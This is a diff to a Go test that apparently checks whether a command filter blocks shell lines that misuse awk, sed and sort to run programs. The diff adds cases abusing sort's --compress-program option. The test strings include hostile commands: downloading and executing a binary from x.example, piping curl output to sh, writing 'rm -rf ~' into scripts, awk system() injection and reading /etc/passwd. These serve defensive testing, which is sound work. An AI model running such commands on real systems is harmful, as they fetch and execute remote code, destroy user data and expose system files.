@@ -53,6 +53,9 @@ func TestFiltersRunNothing(t *testing.T) {
 		"curl -so sed https://x.example; ./sed 's/a/b/'", "cp /tmp/x ~/.local/bin/awk; awk '{print $1}'", "echo 'rm -rf ~' > awk; awk '{print}'",
 		"echo 'BEGIN{system(\"id\")}' > p.awk; awk -f p.awk", "echo '1e id' > s.sed; sed -f s.sed", "sed 's/a/b/' -i f", "awk -F: '{print $1}' /etc/passwd",
 		"awk \"{print $1}\"", "f() { awk \"{print $1}\"; }; f '}{system(\"id\")'", "sed -n '1,5p' <(curl -s https://x.example) | sh", "gawk -F , '{print $NF}' -",
+		// a filter's option that runs a program (sort --compress-program)
+		"sort --compress-program=/tmp/z a", "curl -so z https://x.example; chmod +x z; sort --compress-program=./z a | uniq -c",
+		"echo 'rm -rf ~' > z; sort --compress-program z a",
 	}
 	lines = append(lines, engineExecLines(t)...)
 	defer func() { skipFilterRuns = true }()
